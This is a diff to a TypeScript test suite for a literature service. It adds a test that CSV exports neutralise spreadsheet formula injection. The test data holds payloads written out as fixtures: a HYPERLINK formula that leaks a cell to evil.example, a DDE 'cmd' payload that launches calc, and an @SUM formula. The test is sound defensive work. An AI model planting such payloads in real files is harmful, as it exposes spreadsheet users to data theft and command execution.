@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync';
 import request from 'supertest';
 import { ExportService } from '../../src/literature/export/export.service';
 import { parsePublications } from '../../src/literature/parse-publications';
@@ -130,5 +131,23 @@ describe('exports over HTTP and GraphQL (demo corpus)', () => {
     expect(png.status).toBe(200);
     expect(png.headers['content-type']).toBe('image/png');
     expect(Buffer.from(png.body).subarray(1, 4).toString()).toBe('PNG');
+  });
+  it('neutralises cells a spreadsheet would run as formulas (an apostrophe before =, +, -, @), and reads them back unchanged', async () => {
+    const title = '=HYPERLINK("http://evil.example/?leak="&A1,"Spinal hematoma")';
+    const ris = `TY  - JOUR\nTI  - ${title}\nAU  - @SUM(1+1), Ann\nKW  - +cmd|' /C calc'!A0\nKW  - hematoma\nJO  - -2+3\nPY  - 2021\nSP  - -5\nER  - \n`;
+    const imported = await request(app.running.url).post('/imports?review=formula-review&extractCases=false').set('Authorization', `Bearer ${CURATOR_KEY}`).set('Content-Type', 'text/plain').send(ris);
+    expect(imported.body).toMatchObject({ stored: true, created: 1 });
+    await waitForIndex(app);
+    const response = await asText(request(app.running.url).get('/exports').query({ format: 'csv', scope: 'publications', reviews: 'formula-review' }));
+    expect(response.status).toBe(200);
+    const [header, row] = parse(response.body as string) as string[][];
+    const cell = (name: string) => row[header.indexOf(name)];
+    expect(cell('title')).toBe(`'${title}`);
+    expect(cell('authors')).toBe("'@SUM(1+1), Ann");
+    expect(cell('keywords')).toBe("'+cmd|' /C calc'!A0; hematoma");
+    expect(cell('journal')).toBe("'-2+3");
+    expect(row.filter((value) => /^[=+\-@\t\r]/.test(value) && !/^-?\d+$/.test(value))).toEqual([]);
+    const [record] = await collect(parsePublications(streamOf(response.body as string)));
+    expect(record.publication).toMatchObject({ title, authors: [{ family: '@SUM(1+1)', given: 'Ann' }], keywords: ["+cmd|' /C calc'!A0", 'hematoma'], journal: '-2+3' });
   });
 });
